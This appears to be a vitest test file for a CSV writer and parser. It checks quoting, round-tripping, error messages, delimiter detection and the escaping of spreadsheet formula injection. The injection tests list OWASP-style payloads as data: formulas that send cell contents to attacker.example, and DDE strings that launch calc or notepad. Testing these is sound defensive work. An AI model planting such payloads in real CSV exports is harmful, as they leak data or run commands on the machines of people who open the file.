import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, parseCsv, toCsv } from './csv.ts';

describe('CSV', () => {
  it('quotes what needs quoting and reads it back', () => {
    const rows = [['plain', 'with, comma', 'with "quote"', 'two\nlines', ' padded ', '', 'عربي']];
    const text = toCsv(rows);
    expect(text).toBe('plain,"with, comma","with ""quote""","two\nlines"," padded ",,عربي\r\n');
    expect(parseCsv(text)).toEqual({ ok: true, value: rows });
  });

  it('round-trips any text table without formula characters', () => {
    const cell = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((text) => neutraliseFormula(text) === text);
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        // A row of one empty field is written as an empty line; keep rows unambiguous.
        const table = rows.map((row) => (row.length === 1 && row[0] === '' ? ['', ''] : row));
        const parsed = parseCsv(toCsv(table));
        expect(parsed).toEqual({ ok: true, value: table });
      }),
    );
  });

  it('defuses spreadsheet formulas but leaves negative numbers alone', () => {
    expect(toCsv([['=HYPERLINK("http://x")', '-12.5', '+7', '@SUM(A1)', -3, '+218 91 234 5678', '-2+cmd|calc']])).toBe(
      `"'=HYPERLINK(""http://x"")",-12.5,+7,'@SUM(A1),-3,+218 91 234 5678,'-2+cmd|calc\r\n`,
    );
  });

  it('reports an unclosed quote and text after a closing quote, naming the row', () => {
    const unclosed = parseCsv('a,b\r\n1,"b\nc');
    expect(unclosed.ok || unclosed.error).toEqual({ name: 'ConvertError', message: expect.stringMatching(/never closed/), where: 'row 2' });
    const trailing = parseCsv('a,"b"c\r\n');
    expect(trailing.ok || trailing.error.message).toMatch(/after a closing quote/);
  });

  // OWASP "CSV Injection" and ASVS 1.2.10: a cell that starts with = + - @, tab, carriage return or
  // NUL is run as a formula by Excel, LibreOffice or Google Sheets; the payloads below are the ones
  // those pages and the DDE write-ups use.
  it.each([
    ['=1+1'],
    ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'],
    ["=cmd|' /C calc'!A0"],
    ["+cmd|' /C notepad'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\0=1+1'],
    ['\uFF1D1+1'],
    ['+A1'],
    ['-A1'],
  ])('neutralises %j', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    const written = toCsv([[payload]]);
    const read = parseCsv(written);
    expect(read.ok && read.value[0]![0]).toBe(`'${payload}`);
  });

  it('quotes a cell holding a semicolon or a tab, so a formula after one stays inside it in a semicolon locale', () => {
    expect(toCsv([['a;=1+1', "x;=cmd|' /C calc'!A0", 'b\t=1+1', '+1;=1+1']])).toBe(
      `"a;=1+1","x;=cmd|' /C calc'!A0","b\t=1+1","'+1;=1+1"\r\n`,
    );
    expect(parseCsv(toCsv([['a;=1+1']]), { delimiter: 'detect' })).toEqual({ ok: true, value: [['a;=1+1']] });
  });

  it.each([['-12.5'], ['+7'], ['+218 91 234 5678'], ['+218-91-234-5678'], ['-'], ['(091) 234 5678'], ['Ahmed'], ['a=b'], ['']])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );

  it('reads files saved with semicolons or tabs when asked to detect the delimiter, and a byte-order mark', () => {
    expect(parseCsv('\ufeffname;people\r\nCamp A;40\r\n', { delimiter: 'detect' })).toEqual({
      ok: true,
      value: [
        ['name', 'people'],
        ['Camp A', '40'],
      ],
    });
    expect(parseCsv('name\tpeople\nCamp A\t40', { delimiter: 'detect' })).toEqual({
      ok: true,
      value: [
        ['name', 'people'],
        ['Camp A', '40'],
      ],
    });
    expect(parseCsv('name;people\r\n')).toEqual({ ok: true, value: [['name;people']] });
    expect(parseCsv('')).toEqual({ ok: true, value: [] });
  });
});
